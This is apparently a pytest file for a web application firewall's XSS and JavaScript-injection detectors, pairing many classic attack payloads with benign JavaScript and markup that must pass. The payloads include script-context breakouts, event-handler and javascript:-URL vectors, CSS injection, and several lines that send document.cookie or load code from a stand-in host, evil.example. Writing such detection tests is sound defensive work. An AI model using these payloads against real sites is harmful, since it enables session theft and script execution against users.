"""The XSS / JavaScript-injection confirmers (waf/_xss.py): attack vectors of the classic lists (written
here, in their shapes) stay confirmed; JavaScript and markup that is data, not injected code, does not."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from waf._xss import (
    is_bare_js,
    is_css_code,
    is_dangerous_element,
    is_event_handler,
    is_js_alias,
    is_js_function_injection,
    is_js_injection,
    is_script_url,
    parses,
    tag_attributes,
    tokenize,
)

# Injections that break out of the script context they land in: a quoted string, `</script>`, an
# unquoted expression; then a sink runs (also through invoked literals, constructors, brackets).
JS_BREAKOUTS = [
    "';alert(String.fromCharCode(88,83,83))//",
    '";alert(1)//',
    "'-alert(1)-'",
    '\\";alert(1);//',
    "'});alert(1);//",
    "1;fetch('//evil.example/'+document.cookie)",
    "1)-alert(1)-(1",
    "</script><script>alert(1)</script>",
    "x';(function(){alert(1)})()//",
    "';[].constructor.constructor('alert(1)')()//",
    "\"+window['al'+'ert'](1)+\"",
    "'-top[/al/.source+/ert/.source](1)-'",
    "${alert(1)}",
    "\";document.location='//evil.example/?'+document.cookie;//",
    "x';document.body.innerHTML=location.hash.slice(1)//",
    "x' + document.cookie + '",
]

# Values that run a sink as they are, where the application put them in a script unquoted.
JS_BARE = [
    "alert(1)",
    "alert`1`",
    "prompt(document.domain)",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "(function(){alert(1)})()",
    "!function(){alert(1)}()",
    "(() => alert(document.cookie))()",
    "[].constructor.constructor('alert(1)')()",
    "self['alert'](1)",
    "Function('alert(1)')()",
    "`${alert(1)}`",
    "eval(atob('YWxlcnQoMSk='))",
    "setTimeout('alert(1)')",
    "import('//evil.example/x.js')",
    "x=(document)['cookie']",
    "document.getElementById('out').innerHTML = location.hash",
]

# JavaScript as data: function sources logged by telemetry, helper sources posted by polyfill and
# fingerprinting scripts, stack traces, prose naming a call, class and object methods.
JS_DATA = [
    "function(e){var t=[a,b].sort((function(){return e===c?-1:1})),n=t[0];"
    'Array.from(document.querySelectorAll(".".concat(n))).forEach((function(e){e.classList.add(n)}))}',
    'function(){try{f(document.querySelector("div[".concat(k,"]")))}catch(e){}}',
    'function(e){if(e)if("window"===e)t(window);else try{t(document.querySelector(e))}catch(e){}else t(null)}',
    "function(e){var n=new URL(window.location.href);n.searchParams.delete('g');h.push({pathname:n.pathname})}",
    "function () { return this.slice(0); }",
    "(e) => { document.title = e.target.value }",
    "class Widget { render() { document.body.append(this.el) } }",
    "TypeError: a is not a function\n    at eval (webpack:///./src/app.js:12:5)\n    at setTimeout (native)",
    "Uncaught ReferenceError: alert is not defined",
    "an alert was raised",
    "please alert(me) now",
    '{"code":"document.cookie"}',
]


@pytest.mark.parametrize("value", JS_BREAKOUTS)
def test_a_breakout_then_a_sink_is_confirmed(value: str) -> None:
    assert is_js_injection(value)


@pytest.mark.parametrize("value", JS_BARE)
def test_a_sink_that_runs_as_the_value_stands_is_bare_script(value: str) -> None:
    assert is_bare_js(value)


def test_bare_script_is_no_breakout() -> None:
    # the rules on bare script apply to navigations only: code as data has that shape too
    for value in ("alert(1)", "document.getElementById('out').innerHTML = html;", "(function(){alert(1)})()"):
        assert not is_js_injection(value)


@pytest.mark.parametrize("value", JS_DATA)
def test_javascript_as_data_is_not(value: str) -> None:
    assert not is_js_injection(value)
    assert not is_bare_js(value)


def test_function_literals_run_only_when_invoked_or_left_open() -> None:
    assert is_js_function_injection("function(){return require('child_process').execSync('id')}()")
    assert is_js_function_injection("_$$ND_FUNC$$_function(){return 1}()")
    assert is_js_function_injection("function() {")  # opens a body for the host code to close
    assert is_js_function_injection("(() => { process.exit(1) })()")
    assert not is_js_function_injection("function(){var r=[],j={};for(var i=0;i<this.length;i++){r.push(this[i])}return r}")
    assert not is_js_function_injection("function (op)\n{\n  if (!op) throw 'op must be a function';\n  return true;\n}")


def test_a_script_that_would_not_parse_runs_nothing() -> None:
    assert not parses(tokenize("at eval (app.js:1:2)"))
    assert parses(tokenize("return typeof x in y"))
    assert parses(tokenize("a\nb"))  # automatic semicolon between lines


def test_jsx_handlers_that_call_nothing_pass_and_others_stay_decisive() -> None:
    for jsx in ("<a onClick={handleClick}>", "<a onClick={(e) => e.preventDefault()}>",
                "<Button onClick={() => setOpen(!open)} disabled>", "<input onChange={this.onChange} />"):  # fmt: skip
        assert not is_event_handler(jsx), jsx
    for attack in ("<img src=x onerror=alert(1)>", "<img src=x onerror={alert(1)}>", "<b onmouseover={location=name}>",
                   "\" autofocus onfocus=alert(1) x=\"", "<x onclick={[1].map(alert)}>", "<x onclick={new Image().src='//e'}>",
                   "<a onClick={() => 1} onmouseover=alert(1)>", "<x onclick={alert`1`}>"):  # fmt: skip
        assert is_event_handler(attack), attack


def test_inert_javascript_urls_pass_and_code_after_the_scheme_does_not() -> None:
    for inert in ('{"href":"javascript:void 0;","rel":"nofollow"}', "javascript:", "javascript:;",
                  "<a href='javascript:void(0);'>menu</a>", "javascript:void(0)"):  # fmt: skip
        assert not is_script_url(inert), inert
    for attack in ("javascript:alert(1)", "javascript:void(0);alert(1)", "javascript:void 0,alert(1)",
                   "ja\tvascript:prompt(1)", "vbscript:msgbox(1)", "<a href=\"javascript:fetch('//e')\">", "javascript:\t"):  # fmt: skip
        assert is_script_url(attack), attack


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_confirmers_never_raise(value: str) -> None:
    for detector in (
        is_js_injection,
        is_bare_js,
        is_js_function_injection,
        is_event_handler,
        is_script_url,
        is_dangerous_element,
    ):
        assert detector(value) in (True, False)


def test_a_function_source_cut_short_by_a_form_separator_is_no_probe() -> None:
    assert not is_js_function_injection(
        "function (fld)\n{\n    var m = new Map();\n    return this.filter((x) => !m.has(x[fld]) "
    )
    assert is_js_function_injection("function(){ ")


def test_media_and_controls_pointing_at_ordinary_urls_pass() -> None:
    for html in ('<p><img src="https://cdn.example.com/a.png" alt="a"><video src="https://media.example/v.mp4" controls></video></p>',
                 '<svg viewBox="0 0 24 24"><use href="#icon-close"></use></svg>', '<img src="data:image/png;base64,iVBORw0KGgo=">',
                 '<audio controls src="/media/a.mp3"></audio>', '<input type="image" src="/go.png" alt="go">'):  # fmt: skip
        assert not is_dangerous_element(html), html


@pytest.mark.parametrize(
    "html",
    [
        "<svg/onload=alert(1)>",
        '<video><source onerror="alert(1)">',
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        '<img src="java\tscript:alert(1)">',
        '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
        "<button formaction=javascript:alert(1)>x</button>",
        '<iframe srcdoc="<script>alert(1)</script>">',
        '<div style="width:expression(alert(1))">',
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    ],
)
def test_elements_that_run_script_are_confirmed(html: str) -> None:
    assert is_dangerous_element(html)


def test_attributes_are_read_as_an_html_parser_does() -> None:
    attrs, end = tag_attributes('<img src="a b" alt=x/onerror=1 `q`=y>rest', 4)
    assert attrs == [("src", "a b"), ("alt", "x/onerror=1"), ("`q`", "y")]
    assert end == len('<img src="a b" alt=x/onerror=1 `q`=y>')


def test_a_sink_aliased_after_a_breakout_is_confirmed() -> None:
    for value in ('";a=prompt,a()//', "'-(0,eval)('alert(1)')-'", "';[alert][0](1)//", "1;x=confirm;x(1)"):
        assert is_js_alias(value), value
    for value in ("a=prompt,a()", "OK; confirm", "options: (alert, confirm)", "'alert', 'confirm' (dialogs)"):
        assert not is_js_alias(value), value


def test_style_blocks_that_only_style_pass() -> None:
    for css in ("<style>@media (max-width:600px){.col{width:100%!important}} .hero{background:url(https://cdn.example.com/h.jpg)}</style>",
                "<style>@font-face{font-family:X;src:url(/fonts/x.woff2) format('woff2')}</style>",
                '<style>.q::before{content:"\\201C"} /* quotes */</style>', "<style>.i{background:url(data:image/png;base64,iVBORw0=)}</style>"):  # fmt: skip
        assert not is_css_code(css), css
    for css in ("<STYLE>@import'http://evil.example/x.css';</STYLE>", "<style>@im\\port'//evil.example/x.css'</style>",
                "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>", "<style>p{width:expression(alert(1))}</style>",
                "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>", "<style>a{b:url( data:text/html,<svg onload=alert(1)>)}</style>",
                "<style>a{x:exp\\72ession(alert(1))}</style>",
        '<style>@font-face {font-family: y; src: url("font.svg#x") format("svg");}</style>', "x<style"):  # fmt: skip
        assert is_css_code(css), css


def test_words_shaped_like_handlers_pass_and_handlers_that_run_do_not() -> None:
    for text in ("status: online=yes", "mode=dark; onboarding=done", '{"filter":"onsale=1"}', "x onclick=void(0)"):
        assert not is_event_handler(text), text
    for text in ("<w=\"/x=\"y>\"/OndbLcLick=`<`[confirm``]>z", "<img alt='x'><img src=xx:x onerror=aler", '"onzoom=',
                 "\" onfocus=location=name autofocus x=\"", "<svg onload=alert>", "<x onclick=import('//e')>", "<img src onerror=fetch?.('//e/'+document.cookie)>"):  # fmt: skip
        assert is_event_handler(text), text


def test_html_comment_tokens_in_script_are_read_as_browsers_do() -> None:
    assert is_js_injection("';x-->alert(1)//")  # `x-- > alert(1)`: only a line-leading --> is a comment
    assert is_js_injection("';<!--\nalert(1)//")  # <!-- comments out its line only
